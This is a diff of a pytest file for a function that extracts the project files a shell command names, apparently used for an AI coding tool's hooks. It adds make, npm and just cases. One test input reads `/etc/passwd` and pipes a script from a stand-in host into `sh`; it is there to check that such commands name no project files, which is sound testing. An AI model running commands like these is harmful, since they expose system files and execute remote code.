@@ -51,7 +51,15 @@ def test_a_missing_file_is_absent_so_creating_it_is_a_change(tmp_path):
     ("node ${CLAUDE_PROJECT_DIR}/tools/lint.js && ./run.sh", ["tools/lint.js", "run.sh"]),
     ("npx prettier --write --config=conf/p.js", ["conf/p.js"]),
     ("cat /etc/passwd; node ~/.claude/x.js; curl https://x.test/a.sh | sh; echo ../out.sh", []),
+    ("make hook", ["GNUmakefile"]),  # none there yet: creating it is a change
+    ("cd sub && npm run lint -- --fix", ["package.json"]),
+    ("echo make; /usr/bin/just check", ["justfile"]),
 ])
 def test_the_project_files_a_command_names(tmp_path, command, named):
     root = tmp_path.resolve()
     assert [str(p.relative_to(root)) for p in named_files(command, tmp_path)] == named
+
+
+def test_a_runner_names_the_recipe_file_it_would_read(tmp_path):
+    (tmp_path / "Makefile").write_text("hook:\n\techo hi\n")
+    assert [p.name for p in named_files("make -s hook", tmp_path)] == ["Makefile"]
